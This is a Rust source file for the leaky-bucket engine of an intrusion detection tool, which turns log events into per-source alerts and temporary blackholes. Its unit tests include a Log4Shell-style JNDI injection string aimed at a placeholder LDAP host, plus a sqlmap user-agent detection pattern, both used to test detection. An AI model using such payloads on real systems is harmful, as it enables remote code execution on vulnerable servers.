//! The bucket engine.
use std::{collections::BTreeMap, net::IpAddr};

use serde::{Deserialize, Serialize};

/// Maps keyed by what sources send (addresses, paths, agents): foldhash is fast and seeded per
/// process, so no one can aim keys at one slot.
type HashMap<K, V> = std::collections::HashMap<K, V, foldhash::fast::RandomState>;

use super::{
    definition::{
        BucketType, Distinct, GroupBy, Match, Scenario, TargetVerdict, UriSignatures,
        UserAgentVerdict,
    },
    request::Request,
};
use crate::{parsers::Event, prefix::Prefix};

/// Evidence lines kept per bucket.
const EVIDENCE: usize = 5;

/// A scenario overflowed for a source.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Alert {
    /// Scenario name.
    pub scenario: String,
    /// The address of the event that overflowed the bucket.
    pub source: IpAddr,
    /// What the bucket was keyed by: the address, or its /64 for IPv6.
    pub group: Prefix,
    /// Time of the bucket's first event (Unix ms).
    pub first_ms: i64,
    /// Time of the overflowing event.
    pub last_ms: i64,
    /// Events poured into the bucket.
    pub events: u32,
    /// A sample of the lines (bounded).
    pub evidence: Vec<String>,
    /// The scenario's labels.
    pub labels: BTreeMap<String, String>,
    /// The scenario's ban duration (its `ban` label, read when the scenario was loaded).
    #[serde(default, with = "crate::config::human_duration_opt")]
    pub ban: Option<std::time::Duration>,
}

/// Counters for `ips status` and the bench.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct EngineStats {
    /// Events seen.
    pub events: u64,
    /// Events poured into at least one bucket.
    pub matched: u64,
    /// Overflows reported.
    pub overflows: u64,
    /// Events dropped because their source was in a blackhole.
    pub blackholed: u64,
    /// Buckets evicted to stay within the limit.
    pub evicted: u64,
}

/// A bucket's key: 16 bytes.
#[derive(Clone, Copy, PartialEq, Eq, Hash)]
struct Key {
    /// IPv4: the address (upper half zero). IPv6: the /64 (upper 64 bits). IPv6 sources in
    /// `::/32` (reserved, unroutable) would share IPv4 groups.
    group: u64,
    /// Scenario index in the low 16 bits; a user-name hash above for `source+user`.
    tag: u32,
}

/// Rarely needed parts of a bucket, kept aside and only for buckets that need them.
#[derive(Default)]
struct Extra {
    distinct: Vec<u32>,
    evidence: Vec<Box<str>>,
}

/// A bucket: 24 bytes, so a million sources in three scenarios stay within budget.
struct Bucket {
    last_ms: i64,
    level: f32,
    count: u32,
    /// `last_ms - first_ms`, saturating.
    span_ms: u32,
    /// The first distinct value's hash (0: none yet); later ones go to [`Extra`].
    distinct0: u32,
}

impl Bucket {
    fn first_ms(&self) -> i64 {
        self.last_ms - i64::from(self.span_ms)
    }

    fn touch(&mut self, now: i64) {
        let first = self.first_ms();
        self.last_ms = self.last_ms.max(now);
        self.span_ms = u32::try_from(self.last_ms - first).unwrap_or(u32::MAX);
    }

    fn restart(&mut self, now: i64) {
        self.last_ms = now;
        self.span_ms = 0;
        self.count = 0;
        self.level = 0.0;
        self.distinct0 = 0;
    }
}

/// FNV-1a: a cheap hash for distinct values and user names.
fn fnv(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in bytes {
        h ^= u64::from(*b);
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h
}

/// A 32-bit distinct-value hash, never 0 (0 means "none").
fn distinct_hash(bytes: &[u8]) -> u32 {
    let h = fnv(bytes);
    ((h ^ (h >> 32)) as u32).max(1)
}

/// The bucket group of an address: itself for IPv4, its /64 for IPv6.
fn group_of(addr: IpAddr) -> (u64, Prefix) {
    match addr {
        IpAddr::V4(a) => (u64::from(u32::from(a)), Prefix::host(addr)),
        IpAddr::V6(a) => match a.to_ipv4_mapped() {
            Some(v4) => (u64::from(u32::from(v4)), Prefix::host(IpAddr::V4(v4))),
            None => {
                let hi = (u128::from(a) >> 64) as u64;
                let p = Prefix::new(addr, 64).unwrap_or_else(|_| Prefix::host(addr));
                (hi, p)
            }
        },
    }
}

/// The first address of a group.
fn group_addr(group: u64) -> IpAddr {
    if group >> 32 == 0 {
        IpAddr::from(std::net::Ipv4Addr::from(group as u32))
    } else {
        IpAddr::from(std::net::Ipv6Addr::from(u128::from(group) << 64))
    }
}

/// The user-agent part of every scenario's filter, per agent: agents repeat from line to line,
/// so their substring and regex checks run once per agent, not once per line.
struct AgentVerdicts {
    /// By agent as logged; cleared when it holds [`AgentVerdicts::MAX`].
    seen: HashMap<Box<str>, Box<[UserAgentVerdict]>>,
    /// For lines without an agent.
    none: Box<[UserAgentVerdict]>,
}

impl AgentVerdicts {
    const MAX: usize = 8192;

    fn new(scenarios: &[Scenario]) -> Self {
        Self {
            seen: HashMap::default(),
            none: scenarios
                .iter()
                .map(|s| s.user_agent_verdict(None))
                .collect(),
        }
    }

    fn of(
        &mut self,
        scenarios: &[Scenario],
        r: &Request<'_>,
        agent: Option<&str>,
    ) -> &[UserAgentVerdict] {
        let Some(agent) = agent else {
            return &self.none;
        };
        if !self.seen.contains_key(agent) {
            if self.seen.len() >= Self::MAX {
                self.seen.clear();
            }
            let lower = r.lower_user_agent();
            let v = scenarios
                .iter()
                .map(|s| s.user_agent_verdict(lower))
                .collect();
            self.seen.insert(agent.into(), v);
        }
        self.seen.get(agent).map_or(&self.none, |v| v)
    }
}

/// The target part of every scenario's filter, per request target, each computed when a
/// scenario first needs it: pages, assets and API paths repeat from line to line. Targets are
/// keyed by a hash with a per-process random key (no one can aim a request at another's
/// entry), and the verdicts live in one table, grown up to its cap and then reused.
struct TargetVerdicts {
    hasher: foldhash::quality::RandomState,
    /// Target hash -> its row in `table`.
    rows: HashMap<u64, u32>,
    /// Up to `MAX` rows of one slot per scenario, grown as targets come.
    table: Vec<u16>,
    scenarios: usize,
}

impl TargetVerdicts {
    const MAX: usize = 16_384;
    /// A slot not computed yet; then 1 for "does not pass", 2 for "passes", 3 + n for "passes
    /// by signature n" (two bytes a slot keep the table small enough for the cache).
    const UNKNOWN: u16 = 0;

    fn pack(v: TargetVerdict) -> u16 {
        match (v.pass, v.signature) {
            (false, _) => 1,
            (true, None) => 2,
            (true, Some(n)) => u16::try_from(n).map_or(Self::UNKNOWN, |n| n.saturating_add(3)),
        }
    }

    fn unpack(slot: u16) -> Option<TargetVerdict> {
        Some(match slot {
            Self::UNKNOWN => return None,
            1 => TargetVerdict {
                pass: false,
                signature: None,
            },
            2 => TargetVerdict {
                pass: true,
                signature: None,
            },
            n => TargetVerdict {
                pass: true,
                signature: Some(usize::from(n - 3)),
            },
        })
    }

    fn new(scenarios: usize) -> Self {
        Self {
            hasher: foldhash::quality::RandomState::default(),
            rows: HashMap::with_capacity_and_hasher(Self::MAX, Default::default()),
            table: Vec::new(),
            scenarios,
        }
    }

    /// The verdict slots of `target` (one per scenario).
    fn slots(&mut self, target: &str) -> &mut [u16] {
        use std::hash::BuildHasher;
        let key = self.hasher.hash_one(target);
        let next = self.rows.len();
        let (row, fresh) = match self.rows.get(&key) {
            Some(row) => (*row as usize, false),
            None if next < Self::MAX => (next, true),
            None => {
                self.rows.clear();
                (0, true)
            }
        };
        let range = row * self.scenarios..(row + 1) * self.scenarios;
        if self.table.len() < range.end {
            self.table.resize(range.end, Self::UNKNOWN);
        }
        let slots = &mut self.table[range];
        if fresh {
            self.rows.insert(key, row as u32);
            slots.fill(Self::UNKNOWN);
        }
        slots
    }
}

/// The leaky bucket engine.
pub struct Engine {
    scenarios: Vec<Scenario>,
    agents: AgentVerdicts,
    targets: TargetVerdicts,
    uri_signatures: UriSignatures,
    buckets: HashMap<Key, Bucket>,
    extras: HashMap<Key, Box<Extra>>,
    blackholes: HashMap<Key, i64>,
    max_buckets: usize,
    stats: EngineStats,
}

impl Engine {
    /// An engine for these scenarios, holding at most `max_buckets` buckets.
    pub fn new(scenarios: Vec<Scenario>, max_buckets: usize) -> Self {
        Self {
            agents: AgentVerdicts::new(&scenarios),
            targets: TargetVerdicts::new(scenarios.len()),
            uri_signatures: UriSignatures::new(&scenarios),
            scenarios,
            buckets: HashMap::default(),
            extras: HashMap::default(),
            blackholes: HashMap::default(),
            max_buckets: max_buckets.max(16),
            stats: EngineStats::default(),
        }
    }

    /// Takes over the buckets (and blackholes) that `old` holds for scenarios this engine runs
    /// unchanged (same name and [`Scenario::fingerprint`]), under their index here; those of
    /// scenarios removed or changed are dropped. Returns how many buckets were kept. A reload
    /// uses it so that an attack in progress is not forgotten.
    pub fn carry_over(&mut self, old: Engine) -> usize {
        let to: Vec<Option<u32>> = old
            .scenarios
            .iter()
            .map(|o| {
                self.scenarios
                    .iter()
                    .position(|n| n.name == o.name && n.fingerprint == o.fingerprint)
                    .and_then(|j| u32::try_from(j).ok())
            })
            .collect();
        let rekey = |k: Key| -> Option<Key> {
            let j = (*to.get((k.tag & 0xffff) as usize)?)?;
            Some(Key {
                group: k.group,
                tag: (k.tag & !0xffff) | j,
            })
        };
        for (k, b) in old.buckets {
            if let Some(k) = rekey(k) {
                self.buckets.insert(k, b);
            }
        }
        for (k, e) in old.extras {
            if let Some(k) = rekey(k)
                && self.buckets.contains_key(&k)
            {
                self.extras.insert(k, e);
            }
        }
        for (k, until) in old.blackholes {
            if let Some(k) = rekey(k) {
                self.blackholes.insert(k, until);
            }
        }
        self.stats = old.stats;
        self.buckets.len()
    }

    /// The scenarios.
    pub fn scenarios(&self) -> &[Scenario] {
        &self.scenarios
    }

    /// Counters.
    pub fn stats(&self) -> &EngineStats {
        &self.stats
    }

    /// Buckets in memory.
    pub fn buckets(&self) -> usize {
        self.buckets.len()
    }

    /// Pours one event; overflows are appended to `out`. `line` is kept as evidence.
    pub fn pour(&mut self, e: &Event<'_>, line: &str, out: &mut Vec<Alert>) {
        self.stats.events += 1;
        let now = e.time_ms;
        let (group, group_prefix) = group_of(e.source);
        let request = Request::of(e);
        let agents = self.agents.of(&self.scenarios, &request, e.user_agent);
        let mut slots = e.path.map(|t| self.targets.slots(t));
        let mut uri_hits: Option<Vec<(usize, usize)>> = None;
        let uri_signatures = &self.uri_signatures;
        let mut matched = false;
        for (i, s) in self.scenarios.iter().enumerate() {
            let mut target = |s: &Scenario| {
                let mut verdict = || {
                    if !uri_signatures.built() {
                        return s.target_verdict(e, &request, None);
                    }
                    let hits = uri_hits.get_or_insert_with(|| {
                        if e.path.is_some() {
                            uri_signatures.hits(&request)
                        } else {
                            Vec::new()
                        }
                    });
                    s.target_verdict(e, &request, Some((i, hits)))
                };
                match slots.as_mut().and_then(|v| v.get_mut(i)) {
                    Some(slot) => TargetVerdicts::unpack(*slot).unwrap_or_else(|| {
                        let v = verdict();
                        *slot = TargetVerdicts::pack(v);
                        v
                    }),
                    None => verdict(),
                }
            };
            let signature = match s.matches_with(e, &request, agents[i], &mut target) {
                Match::No => continue,
                Match::Yes => None,
                Match::Signature(n) => s.signatures.get(n),
            };
            matched = true;
            let mut tag = i as u32;
            match s.groupby {
                GroupBy::Source => {}
                GroupBy::SourceUser => {
                    tag |= (fnv(e.user.unwrap_or("").as_bytes()) as u32) << 16;
                }
                GroupBy::SourcePath => {
                    tag |= (fnv(request.path.as_bytes()) as u32) << 16;
                }
            }
            let key = Key { group, tag };
            if let Some(until) = self.blackholes.get(&key) {
                if now < *until {
                    self.stats.blackholed += 1;
                    continue;
                }
                self.blackholes.remove(&key);
            }
            let distinct = s.distinct.map(|d| match d {
                Distinct::User => distinct_hash(e.user.unwrap_or("").as_bytes()),
                Distinct::Path => distinct_hash(e.path.unwrap_or("").as_bytes()),
                Distinct::Query => distinct_hash(request.query.as_bytes()),
                Distinct::UserAgent => distinct_hash(e.user_agent.unwrap_or("").as_bytes()),
                Distinct::Port => u32::from(e.port.unwrap_or(0)).max(1) | 0x8000_0000,
            });
            if self.buckets.len() >= self.max_buckets && !self.buckets.contains_key(&key) {
                Self::evict(
                    &mut self.buckets,
                    &mut self.extras,
                    &self.scenarios,
                    now,
                    self.max_buckets,
                    &mut self.stats,
                );
            }
            let b = self.buckets.entry(key).or_insert(Bucket {
                last_ms: now,
                level: 0.0,
                count: 0,
                span_ms: 0,
                distinct0: 0,
            });
            // Leak what has leaked since the last event.
            if s.bucket == BucketType::Leaky {
                let elapsed = (now - b.last_ms).max(0) as f64;
                let leaked = (elapsed / s.leak_ms as f64) as f32;
                b.level = (b.level - leaked).max(0.0);
                if b.level == 0.0 && b.count > 0 {
                    // Empty again: a new burst starts.
                    b.restart(now);
                    self.extras.remove(&key);
                }
            } else if s.bucket == BucketType::Counter && now - b.first_ms() >= s.leak_ms {
                b.restart(now);
                self.extras.remove(&key);
            }
            b.touch(now);
            if let Some(v) = distinct {
                if b.distinct0 == 0 {
                    b.distinct0 = v;
                } else if b.distinct0 == v {
                    continue;
                } else {
                    let x = self.extras.entry(key).or_default();
                    if x.distinct.contains(&v) {
                        continue;
                    }
                    x.distinct.push(v);
                }
            }
            b.count += 1;
            b.level += 1.0;
            if b.count >= 2 || s.bucket == BucketType::Trigger {
                let x = self.extras.entry(key).or_default();
                if x.evidence.len() < EVIDENCE {
                    x.evidence.push(line.into());
                }
            }
            let overflow = match s.bucket {
                BucketType::Leaky => b.level > s.capacity as f32,
                BucketType::Trigger => true,
                BucketType::Counter => false,
            };
            if overflow {
                let first_ms = b.first_ms();
                let count = b.count;
                self.buckets.remove(&key);
                let evidence = self
                    .extras
                    .remove(&key)
                    .map(|x| x.evidence.into_iter().map(String::from).collect())
                    .unwrap_or_default();
                let mut labels = s.labels.clone();
                if let Some(sig) = signature {
                    labels.insert(
                        "signature".into(),
                        format!("{} ({})", sig.name, sig.reference),
                    );
                }
                out.push(Alert {
                    scenario: s.name.clone(),
                    source: e.source,
                    group: group_prefix,
                    first_ms,
                    last_ms: now,
                    events: count,
                    evidence,
                    labels,
                    ban: s.ban,
                });
                self.stats.overflows += 1;
                if s.blackhole_ms > 0 {
                    self.blackholes.insert(key, now + s.blackhole_ms);
                }
            }
        }
        if matched {
            self.stats.matched += 1;
        }
    }

    /// Closes counter windows that ended by `now_ms` (alerting on those over capacity) and
    /// forgets empty buckets and ended blackholes.
    pub fn tick(&mut self, now_ms: i64, out: &mut Vec<Alert>) {
        let scenarios = &self.scenarios;
        let mut done = Vec::new();
        self.buckets.retain(|k, b| {
            let s = &scenarios[(k.tag & 0xffff) as usize];
            match s.bucket {
                BucketType::Counter if now_ms - b.first_ms() >= s.leak_ms => {
                    if b.count > s.capacity {
                        done.push((*k, b.first_ms(), b.last_ms, b.count));
                    }
                    false
                }
                BucketType::Leaky => {
                    let leaked = (now_ms - b.last_ms).max(0) as f32 / s.leak_ms as f32;
                    b.level - leaked > 0.0
                }
                _ => true,
            }
        });
        for (k, first_ms, last_ms, count) in done {
            let s = &self.scenarios[(k.tag & 0xffff) as usize];
            let addr = group_addr(k.group);
            let (_, group) = group_of(addr);
            self.stats.overflows += 1;
            out.push(Alert {
                scenario: s.name.clone(),
                source: addr,
                group,
                first_ms,
                last_ms,
                events: count,
                evidence: Vec::new(),
                labels: s.labels.clone(),
                ban: s.ban,
            });
        }
        let buckets = &self.buckets;
        self.extras.retain(|k, _| buckets.contains_key(k));
        self.blackholes.retain(|_, until| *until > now_ms);
    }

    /// Makes room: drops empty buckets, then the least recently fed quarter.
    fn evict(
        buckets: &mut HashMap<Key, Bucket>,
        extras: &mut HashMap<Key, Box<Extra>>,
        scenarios: &[Scenario],
        now: i64,
        max: usize,
        stats: &mut EngineStats,
    ) {
        let before = buckets.len();
        buckets.retain(|k, b| {
            let s = &scenarios[(k.tag & 0xffff) as usize];
            s.bucket != BucketType::Leaky
                || b.level - (now - b.last_ms).max(0) as f32 / s.leak_ms as f32 > 0.0
        });
        if buckets.len() > max * 3 / 4 {
            let mut ages: Vec<i64> = buckets.values().map(|b| b.last_ms).collect();
            let cut = buckets.len() - max * 3 / 4;
            let (_, nth, _) = ages.select_nth_unstable(cut);
            let threshold = *nth;
            buckets.retain(|_, b| b.last_ms > threshold);
        }
        extras.retain(|k, _| buckets.contains_key(k));
        stats.evicted += (before - buckets.len()) as u64;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        parsers::{Kind, Service},
        scenarios::definition::parse,
    };

    fn engine(toml: &str) -> Engine {
        Engine::new(parse(toml).unwrap(), 1000)
    }

    const BF: &str = r#"
        [[scenario]]
        name = "bf"
        type = "leaky"
        filter = { service = "ssh", kind = ["auth_failed"] }
        capacity = 3
        leakspeed = "10s"
        blackhole = "1m"
    "#;

    fn fail(src: &str, t: i64) -> Event<'static> {
        Event::new(t, src.parse().unwrap(), Service::Ssh, Kind::AuthFailed)
    }

    #[test]
    fn overflows_just_past_capacity_not_at_it() {
        let mut e = engine(BF);
        let mut out = Vec::new();
        for i in 0..3 {
            e.pour(&fail("192.0.2.1", i * 100), "l", &mut out);
        }
        assert!(out.is_empty(), "at capacity: no overflow");
        e.pour(&fail("192.0.2.1", 400), "l", &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].events, 4);
        assert_eq!(out[0].scenario, "bf");
        assert_eq!(
            out[0].evidence.len(),
            3,
            "evidence from the second event on"
        );
    }

    #[test]
    fn a_reload_keeps_the_buckets_of_unchanged_scenarios_only() {
        let other = r#"
            [[scenario]]
            name = "other"
            type = "leaky"
            filter = { service = "ssh", kind = ["auth_failed"] }
            capacity = 3
            leakspeed = "10s"
        "#;
        let mut old = engine(&format!("{other}\n{BF}"));
        let mut out = Vec::new();
        for i in 0..3 {
            old.pour(&fail("192.0.2.1", i * 100), "l", &mut out);
        }
        assert!(out.is_empty());
        assert_eq!(old.buckets(), 2);
        // `bf` unchanged but now first; `other` changed (capacity 5).
        let mut new = engine(&format!(
            "{BF}\n{}",
            other.replace("capacity = 3", "capacity = 5")
        ));
        assert_eq!(new.carry_over(old), 1, "only bf's bucket is kept");
        // bf's bucket, three events in, overflows on the fourth; `other` starts from zero.
        new.pour(&fail("192.0.2.1", 400), "l", &mut out);
        assert_eq!(out.len(), 1, "{out:?}");
        assert_eq!(out[0].scenario, "bf");
        assert_eq!(out[0].events, 4);
    }

    #[test]
    fn leaking_keeps_a_slow_source_under() {
        let mut e = engine(BF);
        let mut out = Vec::new();
        // One event every 10 s leaks as fast as it fills.
        for i in 0..20 {
            e.pour(&fail("192.0.2.1", i * 10_000), "l", &mut out);
        }
        assert!(out.is_empty());
        // Four within 10 s: level 1 + 3 > 3 after partial leak? 4 events in 3 s leak 0.3.
        for i in 0..4 {
            e.pour(&fail("192.0.2.2", i * 1000), "l", &mut out);
        }
        assert_eq!(out.len(), 1);
    }

    #[test]
    fn blackhole_silences_then_releases() {
        let mut e = engine(BF);
        let mut out = Vec::new();
        for i in 0..4 {
            e.pour(&fail("192.0.2.1", i), "l", &mut out);
        }
        assert_eq!(out.len(), 1);
        for i in 0..10 {
            e.pour(&fail("192.0.2.1", 1000 + i), "l", &mut out);
        }
        assert_eq!(out.len(), 1, "silenced for a minute");
        assert_eq!(e.stats().blackholed, 10);
        for i in 0..4 {
            e.pour(&fail("192.0.2.1", 61_000 + i), "l", &mut out);
        }
        assert_eq!(out.len(), 2);
    }

    #[test]
    fn distinct_counts_only_new_values() {
        let mut e = engine(
            r#"[[scenario]]
            name = "enum"
            filter = { service = "ssh" }
            distinct = "user"
            capacity = 2
            leakspeed = "10s""#,
        );
        let mut out = Vec::new();
        for (i, user) in ["root", "root", "root", "admin", "admin"]
            .iter()
            .enumerate()
        {
            let mut ev = fail("192.0.2.1", i as i64);
            ev.user = Some(user);
            e.pour(&ev, "l", &mut out);
        }
        assert!(out.is_empty(), "two distinct users is at capacity");
        let mut ev = fail("192.0.2.1", 10);
        ev.user = Some("oracle");
        e.pour(&ev, "l", &mut out);
        assert_eq!(out.len(), 1);
    }

    #[test]
    fn ipv6_sources_group_by_slash64() {
        let mut e = engine(BF);
        let mut out = Vec::new();
        for i in 0..4 {
            e.pour(&fail(&format!("2001:db8:0:1::{}", i + 1), i), "l", &mut out);
        }
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].group.to_string(), "2001:db8:0:1::/64");
        assert_eq!(out[0].source.to_string(), "2001:db8:0:1::4");
    }

    #[test]
    fn trigger_and_counter() {
        let mut e = engine(
            r#"[[scenario]]
            name = "t"
            type = "trigger"
            filter = { service = "http", user_agent_contains = ["sqlmap"] }
            [[scenario]]
            name = "c"
            type = "counter"
            filter = { service = "http" }
            capacity = 2
            duration = "1m""#,
        );
        let mut out = Vec::new();
        let mut ev = Event::new(
            0,
            "192.0.2.9".parse().unwrap(),
            Service::Http,
            Kind::HttpRequest,
        );
        ev.user_agent = Some("sqlmap/1.7");
        e.pour(&ev, "l", &mut out);
        assert_eq!(
            out.iter().map(|a| a.scenario.as_str()).collect::<Vec<_>>(),
            ["t"]
        );
        ev.user_agent = Some("curl");
        for t in 1..3 {
            ev.time_ms = t;
            e.pour(&ev, "l", &mut out);
        }
        e.tick(59_000, &mut out);
        assert_eq!(out.len(), 1, "window still open");
        e.tick(60_000, &mut out);
        assert_eq!(out.len(), 2);
        assert_eq!(out[1].scenario, "c");
        assert_eq!(out[1].events, 3);
    }

    #[test]
    fn bucket_memory_is_bounded() {
        let mut e = Engine::new(parse(BF).unwrap(), 1000);
        let mut out = Vec::new();
        for i in 0..10_000u32 {
            let src = std::net::Ipv4Addr::from(0x0a00_0000 + i).to_string();
            e.pour(&fail(&src, i64::from(i)), "l", &mut out);
        }
        assert!(e.buckets() <= 1000);
        assert!(e.stats().evicted >= 9000);
    }

    /// The per-agent and per-target verdict caches give the answers the filters give, also
    /// past their caps (when they start over) and for a target seen with other agents.
    #[test]
    fn cached_verdicts_agree_with_the_filters() {
        let mut e = Engine::new(crate::scenarios::builtin(), 100_000);
        let mut out = Vec::new();
        let req = |src: &str, target: &'static str, ua: &'static str, t: i64| {
            let mut ev = Event::new(t, src.parse().unwrap(), Service::Http, Kind::HttpRequest);
            ev.method = Some("GET");
            ev.path = Some(target);
            ev.status = Some(200);
            ev.user_agent = Some(ua);
            ev
        };
        let targets: Vec<&'static str> = (0..TargetVerdicts::MAX + 500)
            .map(|i| &*Box::leak(format!("/page/{i}").into_boxed_str()))
            .collect();
        let agents: Vec<&'static str> = (0..AgentVerdicts::MAX + 10)
            .map(|i| &*Box::leak(format!("Mozilla/5.0 build {i}").into_boxed_str()))
            .collect();
        for (i, t) in targets.iter().enumerate() {
            // Spread over time and sources: no rate scenario fills.
            let src = format!("198.51.{}.{}", i / 250 % 250, i % 250);
            e.pour(
                &req(&src, t, agents[i % agents.len()], i as i64 * 60_000),
                "x",
                &mut out,
            );
        }
        assert!(
            out.is_empty(),
            "{:?}",
            out.iter().map(|a| &a.scenario).collect::<Vec<_>>()
        );
        // A target seen before with a harmless agent, now with an attack tool's: the agent
        // decides. An exploit target after the caches started over: the signature decides.
        e.pour(
            &req("45.60.0.1", targets[3], "sqlmap/1.7", 0),
            "x",
            &mut out,
        );
        e.pour(
            &req("45.60.0.2", "/?x=${jndi:ldap://x/a}", agents[0], 0),
            "x",
            &mut out,
        );
        let got: Vec<(&str, String)> = out
            .iter()
            .map(|a| (a.scenario.as_str(), a.source.to_string()))
            .collect();
        assert_eq!(
            got,
            vec![
                ("http-bad-user-agent", "45.60.0.1".to_owned()),
                ("http-exploit", "45.60.0.2".to_owned())
            ]
        );
    }
}
